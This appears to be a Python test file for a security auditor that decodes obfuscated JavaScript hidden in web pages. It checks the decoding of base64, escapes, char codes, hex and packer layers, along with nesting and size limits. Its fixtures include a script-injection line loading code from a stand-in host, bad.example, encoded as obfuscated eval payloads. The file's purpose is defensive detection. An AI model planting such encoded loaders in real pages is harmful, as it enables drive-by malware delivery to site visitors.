"""Codings are undone by computing; a bomb or an endless nest ends early."""

import base64

import pytest

from auditor.html.hidden.decode import MAX_CHARACTERS, MAX_DEPTH, decoded, literals, unescaped

MARKUP = "document.write('<script src=http://bad.example/x.js></script>')"


def innermost(code: str) -> tuple[str, tuple[str, ...]]:
    found = decoded(code)
    return (found[-1].text, found[-1].layers) if found else ("", ())


@pytest.mark.parametrize(
    ("code", "layers"),
    [
        (f"eval(atob('{base64.b64encode(MARKUP.encode()).decode()}'))", ("atob",)),
        ("eval(unescape('" + "".join(f"%{ord(char):02x}" for char in MARKUP) + "'))", ("unescape",)),
        ("eval(unescape('" + "".join(f"%u{ord(char):04x}" for char in MARKUP) + "'))", ("unescape",)),
        ("eval(String.fromCharCode(" + ",".join(str(ord(char)) for char in MARKUP) + "))", ("charcode",)),
        (
            "var n=[" + ",".join(hex(ord(char)) for char in MARKUP) + "];String.fromCharCode.apply(null,n)",
            ("charcode",),
        ),
        ("x='" + MARKUP.encode().hex() + "'", ("hex",)),
    ],
)
def test_each_coding(code: str, layers: tuple[str, ...]) -> None:
    assert innermost(code) == (MARKUP, layers)


def test_packer_with_keywords_and_a_base_of_62() -> None:
    words = "|".join(f"w{number}" for number in range(62)) + "|document"
    code = f"eval(function(p,a,c,k,e,d){{return p}}('10.1(2)',62,63,'{words}'.split('|'),0,{{}}))"
    assert innermost(code) == ("document.w1(w2)", ("packer",))


def test_escapes_and_joined_literals() -> None:
    assert unescaped(r"\x41\u4e2d\u{1F600}\101\n\q") == "A中😀A\nq"
    assert list(literals("""f('<scr' + "ipt>" , `t`)""")) == ["<script>", "t"]


def test_brackets_alone_are_an_old_custom_and_no_coding() -> None:
    (found,) = decoded("document.write(unescape(\"%3Cscript src='http://s.example/a.js'%3E%3C/script%3E\"))")
    assert found.layers == ("quoted",)
    assert decoded("var name='\\u653f\\u5e9c\\u7f51\\u7ad9\\u653f\\u5e9c\\u7f51\\u7ad9'") == ()


def test_nesting_is_bounded() -> None:
    code = MARKUP
    for _ in range(20):
        code = f"eval(atob('{base64.b64encode(code.encode()).decode()}'))"
    assert max(len(item.layers) for item in decoded(code)) == MAX_DEPTH


def test_a_bomb_ends_at_the_limit() -> None:
    code = "eval(function(p,a,c,k,e,d){}('" + "1 " * 100_000 + "',62,2,'|" + "A" * 100_000 + "'.split('|'),0,{}))"
    assert sum(len(item.text) for item in decoded(code)) <= MAX_CHARACTERS


@pytest.mark.parametrize(
    "code",
    [
        "eval(atob('%%%'))",
        "eval(unescape('%u12'))",
        "fromCharCode(99999999,1,2,3)",
        "'\\x4",
        '"' * 999,
        "eval(function(p,a,c,k,e,d){}('",
    ],
)
def test_broken_codes_do_no_harm(code: str) -> None:
    decoded(code)
